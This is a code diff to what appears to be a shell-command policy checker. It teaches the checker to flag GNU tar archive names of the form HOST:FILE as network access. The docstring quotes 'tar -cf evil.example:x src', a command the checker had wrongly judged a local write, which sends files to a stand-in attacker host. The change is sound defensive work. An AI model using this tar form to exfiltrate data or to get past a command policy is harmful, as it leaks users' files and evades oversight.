@@ -30,13 +30,14 @@ from __future__ import annotations
 
 import posixpath
 
-from exomonad.policy.actions import Action, DeleteFile, Unknown, WriteFile
+from exomonad.policy.actions import Action, DeleteFile, Network, Unknown, WriteFile
+from exomonad.policy.hosts import host_of
 from exomonad.policy.shell_lex import Word
 from exomonad.policy.shell_paths import resolve_path
 from exomonad.policy.shell_reads import tree_root
 from exomonad.policy.shell_wrap import OptSpec, long_option, word_set
 
-__all__ = ["ARCHIVERS", "archive_writes", "unpack_dirs"]
+__all__ = ["ARCHIVERS", "archive_writes", "remote_archive", "unpack_dirs"]
 
 #: GNU tar 1.34's options (``tar --help``, with their aliases).
 _GNU_TAR = OptSpec(
@@ -201,6 +202,9 @@ def _tar(name: str, args: list[Word], cwd: str | None) -> list[Action]:
             return [Unknown(f"{name} -x may write outside its directory: {raw}")]
         out += [WriteFile(d) for d in _tar_dirs(events, cwd)]
     archive = next((v for k, v in reversed(events) if k == "file"), None)
+    host = remote_archive(archive.text) if archive and "force-local" not in keys else None
+    if host is not None:  # GNU tar reaches it through rsh and rmt, reading or writing
+        return [*out, Network(host or None)]
     if keys & _TAR_PACKS and archive is not None and archive.text != "-":
         out.append(WriteFile(resolve_path(cwd, archive)))
     out += [WriteFile(resolve_path(cwd, v)) for k, v in events if k in _TAR_FILES and v]
@@ -209,6 +213,22 @@ def _tar(name: str, args: list[Word], cwd: str | None) -> list[Action]:
             DeleteFile(resolve_path(base, w), recursive=True) for base, w in _operands(events, cwd)
         ]
     return out
+
+
+def remote_archive(name: str) -> str | None:
+    """The host of a GNU tar archive name ``[USER@]HOST:FILE`` (a colon with no ``/``
+    before it), which tar looks up and reaches through ``rsh`` and ``rmt`` unless
+    ``--force-local``; ``""`` when that host cannot be read; None for a local name.
+    Found probing: ``tar -cf evil.example:x src`` (judged as writing a local file) looked
+    ``evil.example`` up, and ``TAPE=`` names the archive when ``-f`` does not.
+
+    >>> remote_archive("u@evil.example:/x.tar"), remote_archive("./a:b"), remote_archive("a.tar")
+    ('evil.example', None, None)
+    """
+    colon = name.find(":")
+    if colon <= 0 or "/" in name[:colon]:
+        return None
+    return host_of(name[:colon].rpartition("@")[2]) or ""
 
 
 def _chain(events: list[Event], cwd: str | None) -> list[tuple[str | None, Event]]:
